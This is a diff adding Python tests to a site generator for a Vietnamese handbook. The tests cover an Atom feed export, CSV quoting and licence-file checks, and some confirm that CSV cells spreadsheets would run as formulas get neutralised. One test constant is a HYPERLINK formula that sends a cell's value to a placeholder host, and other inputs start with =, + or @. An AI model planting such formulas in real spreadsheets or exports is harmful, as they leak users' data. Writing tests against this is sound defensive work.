@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import html
 import io
 import json
 import os
@@ -29,7 +30,9 @@ from sotay.open_data import (
     MIT_FILE,
     SCHEMA_FILE,
     SEPARATOR,
+    csv_bytes,
     export_schema,
+    open_data_files,
 )
 from sotay.page_scripts import scripts_for
 from sotay.project import load_project
@@ -84,6 +87,14 @@ def test_json_is_what_sotay_export_writes(shipped_site: Path) -> None:
     assert len(json.loads(proc.stdout)["documents"]) >= 29
 
 
+def test_the_atom_feed_is_what_sotay_export_writes(shipped_site: Path) -> None:
+    proc = subprocess.run([sys.executable, "-m", "sotay.cli", "export", "--format", "atom", "-f",
+                           str(shipped_site.parent / "mkdocs.yml")], capture_output=True, text=True, timeout=120,
+                          check=True, env={**os.environ, "SOURCE_DATE_EPOCH": SHIPPED_DAY})
+    assert (shipped_site / "van-ban" / "thay-doi.xml").read_text("utf-8") == proc.stdout
+    assert proc.stdout.count("<entry>") >= 1
+
+
 def test_csv_files_hold_one_row_a_record_in_vietnamese(shipped_site: Path) -> None:
     data = export_of(shipped_site)
     for kind, path in CSV_FILES.items():
@@ -119,11 +130,71 @@ def test_export_validates_against_its_schema(shipped_site: Path) -> None:
             jsonschema.validate({**data, "documents": [broken]}, schema, cls=jsonschema.Draft202012Validator)
 
 
+FORMULA = '=HYPERLINK("http://x.example/?d="&A2,"Xem")'
+TOPIC = {"id": "chu-de-a", "title": "Chủ đề", "summary": "Tóm tắt.", "meeting": "chuyen-de", "cell_types": ["thon"],
+         "themes": [], "months": [3], "basis": [{"target": "chi-thi-10-ct-tw", "anchor": None}], "sources": [],
+         "unverified": [], "url": "chu-de/a.html"}
+
+
+def csv_rows(kind: str, records: list[dict[str, Any]]) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(csv_bytes(kind, records).decode("utf-8-sig"), newline="")))
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_an_apostrophe() -> None:
+    templates = [{"id": "a", "title": FORMULA, "docx": "@SUM(1+1)", "url": "mau/a.html"}]
+    assert csv_rows("templates", templates) == [{"id": "a", "title": "'" + FORMULA, "docx": "'@SUM(1+1)",
+                                                 "url": "mau/a.html"}]
+    (topic,) = csv_rows("topics", [{**TOPIC, "title": FORMULA, "cell_types": ["-x", "thon"]}])
+    assert topic["title"] == "'" + FORMULA and topic["cell_types"] == "'-x; thon"  # the cell's start is what counts
+    for start in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
+        (row,) = csv_rows("templates", [{"id": "a", "title": f"{start}1+1", "docx": "a.docx", "url": "a.html"}])
+        assert row["title"] == f"'{start}1+1", repr(start)
+    (row,) = csv_rows("topics", [{**TOPIC, "summary": "Tháng 3 = tháng chuyên đề", "months": [3, 12]}])
+    assert row["summary"] == "Tháng 3 = tháng chuyên đề" and row["months"] == "3; 12" and row["title"] == "Chủ đề"
+
+
+def test_a_cell_with_a_comma_a_quote_and_a_newline_round_trips() -> None:
+    title = 'Họp "chi bộ", tháng 3\r\nlần 2,\n"kết luận"'
+    (row,) = csv_rows("templates", [{"id": "a", "title": title, "docx": "a, b.docx", "url": "a.html"}])
+    assert row == {"id": "a", "title": title, "docx": "a, b.docx", "url": "a.html"}
+
+
+def test_only_the_csv_is_neutralised_the_json_keeps_the_text(project: Project) -> None:
+    root = project({"directives/a.md": document().replace("Về việc thử nghiệm", json.dumps(FORMULA))})
+    result = load(root)
+    assert not result.problems.sorted()
+    files = open_data_files(SiteModel(result, load_project(root / "mkdocs.yml")), result)
+    assert json.loads(files[JSON_FILE])["documents"][0]["title"] == FORMULA
+    (row,) = csv.DictReader(io.StringIO(files[CSV_FILES["documents"]].decode("utf-8-sig"), newline=""))
+    assert row["title"] == "'" + FORMULA
+
+
+def licence_scopes_of_the_file(note: str) -> list[str]:
+    """'1. Phần do Sổ tay biên soạn: a; b; c.' for each numbered part of GIAY-PHEP.txt, its lines joined."""
+    parts = [" ".join(part.split("\r\n")) for part in note.split("\r\n\r\n") if re.match(r"\d+\. ", part)]
+    return [part.split(". ", 1)[1].split(". ", 1)[0] + "." for part in parts]
+
+
+def licence_scopes_of_the_page(page: str) -> list[str]:
+    section = page[page.index('id="giay-phep"'):]
+    items = re.findall(r"<li>(.*?)</li>", section[section.index("<ol>"): section.index("</ol>")], re.S)
+    return [html.unescape(re.sub(r"<[^>]+>", "", item)).split(". ", 1)[0] + "." for item in items]
+
+
 def test_licence_files(shipped_site: Path) -> None:
     assert (shipped_site / MIT_FILE).read_bytes() == (REPO / "LICENSE").read_bytes()
     note = (shipped_site / LICENCE_FILE).read_bytes().decode("utf-8")
-    assert "\r\n" in note and "https://creativecommons.org/licenses/by/4.0/" in note and "CC BY 4.0" in note
-    assert "sources" in note and "MIT" in note
+    assert "\n" not in note.replace("\r\n", "") and all(len(line) <= 110 for line in note.split("\r\n"))  # Notepad
+    scopes = licence_scopes_of_the_file(note)
+    assert scopes == licence_scopes_of_the_page((shipped_site / "du-lieu-mo.html").read_text("utf-8"))
+    assert len(scopes) == 6
+    own, documents, articles, layout, code, others = scopes
+    # The handbook's own assessment of a document's status is its own work; the document's words are not.
+    assert own.startswith("Phần do Sổ tay biên soạn:") and "tình trạng hiệu lực" in own and "bảng kiểm" in own
+    assert documents.startswith("Văn bản của Đảng, Nhà nước:") and "trích yếu" in documents
+    assert "tình trạng" not in documents and "tên bài" in articles and "khổ giấy" in layout
+    assert "assets/sotay/" in code and "Material for MkDocs" in others
+    assert "https://creativecommons.org/licenses/by/4.0/" in note and "36-HD/VPTW" in note
 
 
 def jsonld(page: str) -> dict[str, Any]:
